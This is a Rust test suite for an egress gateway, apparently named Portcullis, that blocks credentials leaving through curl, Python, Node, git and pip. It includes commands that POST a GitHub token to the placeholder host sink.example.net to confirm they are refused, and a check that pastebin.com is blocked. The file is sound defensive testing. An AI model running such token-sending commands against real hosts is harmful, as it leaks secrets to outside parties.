//! The tools people run, with the environment that `up` prints.

use portcullis_e2e::{Answer, Stack, github_pat};

#[tokio::test]
async fn curl_git_python_and_node_work_through_the_gateway() {
    let stack = Stack::start(&[]).await;
    let token = github_pat();
    let url = stack.url("https://sink.example.net/");
    let cases: Vec<(&str, Vec<String>, Vec<String>)> = vec![
        (
            "curl",
            vec!["curl".into(), "-sS".into(), "-f".into(), url.clone()],
            vec!["curl".into(), "-sS".into(), "-f".into(), "-d".into(), format!("t={token}"), url.clone()],
        ),
        ("python", python(&url, "x=1"), python(&url, &format!("x={token}"))),
        ("node", node(&url, "x=1"), node(&url, &format!("x={token}"))),
    ];
    for (name, clean, leaking) in cases {
        let clean = stack.run(&clean).await;
        assert!(clean.status.success(), "{name}: {}", String::from_utf8_lossy(&clean.stderr));
        let denied = stack.run(&leaking).await;
        assert!(!denied.status.success(), "{name} sent a secret");
        let said = [denied.stdout, denied.stderr].concat();
        assert!(String::from_utf8_lossy(&said).contains("403"), "{name}: {}", String::from_utf8_lossy(&said));
    }
    let git = stack.run(&["git".into(), "ls-remote".into(), stack.url("https://sink.example.net/repo.git")]).await;
    // The origin is no git server: git reaches it over the gateway, and says so.
    assert!(stack.origin.requests().iter().any(|r| r.path.starts_with("/repo.git/info/refs")), "{}", String::from_utf8_lossy(&git.stderr));
    assert!(!stack.origin.saw(token.as_bytes()));
}

fn python(url: &str, data: &str) -> Vec<String> {
    let code = "import sys, requests; r = requests.post(sys.argv[1], data=sys.argv[2], timeout=20); print(r.status_code); sys.exit(r.status_code != 200)";
    vec![portcullis_e2e::client_tool("python/bin/python"), "-c".into(), code.into(), url.into(), data.into()]
}

fn node(url: &str, data: &str) -> Vec<String> {
    // Node before 24 reads no proxy variables by itself; undici's agent does.
    let code = "const {EnvHttpProxyAgent, fetch} = require(process.argv[1]); fetch(process.argv[2], {method: 'POST', body: process.argv[3], dispatcher: new EnvHttpProxyAgent()}).then(r => { console.log(r.status); process.exit(r.status === 200 ? 0 : 1) })";
    vec!["node".into(), "-e".into(), code.into(), portcullis_e2e::client_tool("node/node_modules/undici"), url.into(), data.into()]
}

#[tokio::test]
async fn a_client_that_knows_no_proto_file_uses_the_scan_api() {
    let stack = Stack::start(&[]).await;
    let api = stack.gateway.scan_api().expect("an address");
    let client = concat!(env!("CARGO_MANIFEST_DIR"), "/../scan-api/client.py");
    let ask = async |body: String| {
        let script =
            format!("printf %s \"$1\" | {} {client} {api} https://sink.example.net/", portcullis_e2e::client_tool("python/bin/python"));
        let output = stack
            .run(&[
                "env".into(),
                "-u".into(),
                "http_proxy".into(),
                "-u".into(),
                "https_proxy".into(),
                "sh".into(),
                "-c".into(),
                script,
                "sh".into(),
                body,
            ])
            .await;
        (output.status.code(), String::from_utf8_lossy(&output.stdout).into_owned(), String::from_utf8_lossy(&output.stderr).into_owned())
    };
    let token = github_pat();
    let (code, said, errors) = ask(format!("key {token}")).await;
    assert_eq!(code, Some(1), "said {said:?}, errors {errors:?}");
    assert!(
        said.contains("\"reason\": \"credential_misdirected\"") && said.contains("github-pat-classic") && !said.contains(&token),
        "{said}"
    );
    let (code, said, errors) = ask("nothing".into()).await;
    assert_eq!(code, Some(0), "{said}{errors}");
    assert!(said.contains("VERDICT_ALLOW"), "{said}");
}

/// A file below a folder, as a plain web server gives it.
fn file(root: &std::path::Path, path: &str) -> Answer {
    let path = path.split('?').next().unwrap_or_default().trim_start_matches('/');
    let path = if path.is_empty() || path.ends_with('/') { format!("{path}index.html") } else { path.to_owned() };
    match std::fs::read(root.join(path)) {
        Ok(bytes) => {
            Answer { headers: http::HeaderMap::new(), body: bytes.into(), ..Answer::default() }.header("content-type", "text/html")
        }
        Err(_) => Answer { status: http::StatusCode::NOT_FOUND, headers: http::HeaderMap::new(), body: "".into(), ..Answer::default() },
    }
}

async fn sh(stack: &Stack, script: &str, args: &[&str]) -> String {
    let mut command = vec!["sh".to_owned(), "-ec".to_owned(), script.to_owned(), "sh".to_owned()];
    command.extend(args.iter().map(|a| (*a).to_owned()));
    let output = stack.run(&command).await;
    assert!(output.status.success(), "{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[tokio::test]
async fn git_clones_and_pip_downloads_through_the_gateway() {
    let stack = Stack::start(&[]).await;
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().to_str().expect("text");
    let repository = "cd \"$1\"; git init -q work; cd work; echo hello > file; git add file; \
        git -c user.name=a -c user.email=a@b.example commit -qm one; cd ..; mkdir -p www; git clone -q --bare work www/repo.git; cd www/repo.git; git update-server-info";
    sh(&stack, repository, &[path]).await;
    let wheel = "import sys, zipfile, os; d = sys.argv[1] + '/www/simple/harmless'; os.makedirs(d); \
        w = zipfile.ZipFile(d + '/harmless-1.0-py3-none-any.whl', 'w'); i = 'harmless-1.0.dist-info/'; \
        w.writestr('harmless.py', 'x = 1\\n'); w.writestr(i + 'METADATA', 'Metadata-Version: 2.1\\nName: harmless\\nVersion: 1.0\\n'); \
        w.writestr(i + 'WHEEL', 'Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'); w.writestr(i + 'RECORD', ''); w.close(); \
        open(d + '/index.html', 'w').write('<a href=\"harmless-1.0-py3-none-any.whl\">harmless-1.0-py3-none-any.whl</a>')";
    let python = portcullis_e2e::client_tool("python/bin/python");
    sh(&stack, "exec \"$1\" -c \"$2\" \"$3\"", &[&python, wheel, path]).await;
    let root = folder.path().join("www");
    stack.origin.answer(move |request| file(&root, &request.path));

    sh(&stack, "cd \"$1\"; git clone -q https://sink.example.net/repo.git cloned; cat cloned/file", &[path]).await;
    assert_eq!(std::fs::read_to_string(folder.path().join("cloned/file")).expect("cloned"), "hello\n");
    let refused = stack.run(&["git", "ls-remote", "https://pastebin.com/repo.git"].map(str::to_owned)).await;
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("remote error: Portcullis: The destination is on the block list"),
        "{refused:?}"
    );
    let pip = "cd \"$2\"; \"$1\" -m pip download -q --no-deps --no-cache-dir --disable-pip-version-check --index-url https://sink.example.net/simple/ harmless; ls";
    assert!(sh(&stack, pip, &[&python, path]).await.contains("harmless-1.0-py3-none-any.whl"));
}
